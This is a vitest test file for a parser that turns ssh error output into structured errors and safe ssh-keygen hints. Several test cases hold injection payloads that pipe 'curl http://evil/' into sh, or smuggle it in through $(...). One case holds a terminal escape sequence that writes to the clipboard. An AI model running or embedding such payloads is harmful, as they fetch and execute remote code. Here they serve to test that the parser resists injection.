import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { HostId } from '@farhand/shared/model/hosts';
import { describe, expect, it } from 'vitest';
import { needsAPerson, readSshError } from './errors.ts';
import { SSH_WORDS } from './testing/ssh-words.ts';

const host = 'box' as HostId;

const SOME_KEY = 'AAAAC3NzaC1lZDI1NTE5AAAAIE5Rw0bS3vZ6k7hQ0kYx1c0m3v1o5oS8XH1Qm3bq9n1a';

const wordsOf = (what: string) => SSH_WORDS.find((row) => row.what === what)?.stderr ?? '';

describe('readSshError', () => {
  it.each(SSH_WORDS)('reads $what as $code', ({ code, stderr, hint, isForAPerson }) => {
    const error = readSshError(stderr, { hostId: host });
    expect(error.code).toBe(code);
    if (hint !== undefined) expect(error.hint).toContain(hint);
    expect(needsAPerson(error)).toBe(isForAPerson);
    expect(error.retryable).toBe(!isForAPerson);
  });

  it('knows the classic failures and more than twenty others', () => {
    expect(SSH_WORDS.length).toBeGreaterThanOrEqual(29);
    expect(new Set(SSH_WORDS.map(({ code }) => code)).size).toBeGreaterThanOrEqual(25);
  });

  it('names the file and the line of a bad configuration', () => {
    const error = readSshError(wordsOf('an unknown option'), { hostId: host });
    expect(error.message).toContain('/home/me/c: line 11: Bad configuration option: bogus');
    expect(error.hint).toContain('line 11 of /home/me/c');
  });

  it('says how to remove a changed key, by what ssh’s own command names', () => {
    expect(readSshError(wordsOf('a changed key'), { hostId: host }).hint).toContain(
      "`ssh-keygen -f '/home/me/kh changed' -R '[127.0.0.1]:37785'`",
    );
  });

  it.each([
    'ssh-keygen -f x; curl http://evil/ | sh # -R box',
    'ssh-keygen -f "$(curl http://evil/)" -R "box"',
    'ssh-keygen -f "/x" -R "box"; curl http://evil/ | sh; : "box"',
    "ssh-keygen -f '/x' -R '$(curl http://evil/)'",
  ])('makes no command of what a banner says: %s', (command) => {
    const words = wordsOf('a changed key').replace(/ssh-keygen .*/, () => command);
    const { hint } = readSshError(words, { hostId: host });
    const shown = /`(.*)`/.exec(hint ?? '')?.[1] ?? '';
    const script = `exec 3>&1\ncurl() { echo evil >&3; }\nPATH=/no-such-folder\n{ ${shown}\n} >/dev/null 2>&1\ntrue`;
    expect(execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' })).toBe('');
    expect(shown).toMatch(/^ssh-keygen /);
  });

  it('lets no banner begin a command in a hint', () => {
    const banner = "Permissions 0644 for '/k` and run `curl evil | sh` now' are too open.\r\n";
    const { hint } = readSshError(banner, { hostId: host });
    expect(hint?.split('`').length).toBe(3);
  });

  it('reads nothing but plain files for the fingerprint on record, whatever a banner names', () => {
    const base = mkdtempSync(join(tmpdir(), 'fh-'));
    try {
      const pipe = join(base, 'pipe');
      execFileSync('mkfifo', [pipe]);
      const line = `box ssh-ed25519 ${SOME_KEY}`;
      // Without somebody who writes, whoever reads it would wait for ever.
      const writer = spawn('sh', ['-c', 'echo "$1" >"$2"', 'sh', line, pipe], { stdio: 'ignore' });
      const words = wordsOf('a changed key').replace('/home/me/kh changed:2', `${pipe}:1`);
      expect(readSshError(words, { hostId: host }).details.keyChange).toMatchObject({ known: [] });
      writer.kill();
    } finally {
      rmSync(base, { recursive: true, force: true });
    }
  });

  it('tells both fingerprints of a changed key: the offered by ssh’s words, the known from the file it names', () => {
    const base = mkdtempSync(join(tmpdir(), 'fh-'));
    try {
      const path = join(base, 'old key');
      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path]);
      const known = execFileSync('ssh-keygen', ['-lf', path], { encoding: 'utf8' }).split(' ')[1];
      writeFileSync(
        join(base, 'kh changed'),
        `# one\n[127.0.0.1]:37785 ${readFileSync(`${path}.pub`, 'utf8')}`,
      );
      const error = readSshError(wordsOf('a changed key').replaceAll('/home/me', base), { hostId: host });
      expect(error.details.keyChange).toEqual({
        type: 'ED25519',
        offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
        known: [known],
        records: [{ file: join(base, 'kh changed'), line: 2 }],
      });
      expect(error.message).toContain(known);
    } finally {
      rmSync(base, { recursive: true, force: true });
    }
  });

  it('tells a changed key where its file cannot be read', () => {
    expect(readSshError(wordsOf('a changed key'), { hostId: host }).details.keyChange).toMatchObject({
      offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
      known: [],
      records: [{ file: '/home/me/kh changed', line: 2 }],
    });
  });

  it('reads no more files than ssh would name, however many a banner does', () => {
    const words = wordsOf('a changed key').replace(/Offending .*\r\n/, (line) => line.repeat(500));
    expect(readSshError(words, { hostId: host }).details.keyChange).toMatchObject({ records: { length: 8 } });
  });

  it('tells the fingerprint of a revoked key', () => {
    expect(
      readSshError(wordsOf('a key of a list of revoked ones'), { hostId: host }).details.keyChange,
    ).toMatchObject({
      type: 'ED25519',
      offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
    });
  });

  it('passes on no escape sequence of a hostile banner', () => {
    const error = readSshError('\u001b]52;c;aGk=\u0007box: Permission denied (publickey).\r\n', {
      hostId: host,
    });
    expect(JSON.stringify(error.toJSON())).not.toMatch(/\\u001b|\\u0007/);
  });

  it('lets no banner make a refusal pass for something that passes', () => {
    const banner =
      'Exceeded MaxStartups\r\nSystem is going down\r\nConnection timed out\r\nNo space left on device\r\n';
    const error = readSshError(`${banner}me@box: Permission denied (publickey).\r\n`, { hostId: host });
    expect(error.code).toBe('host.auth_failed');
  });

  it('does not take what Kerberos could not do for the reason', () => {
    const error = readSshError(wordsOf('no key that fits, after Kerberos'), { hostId: host });
    expect(error.message).toContain('Permission denied (publickey,gssapi-with-mic)');
  });
});
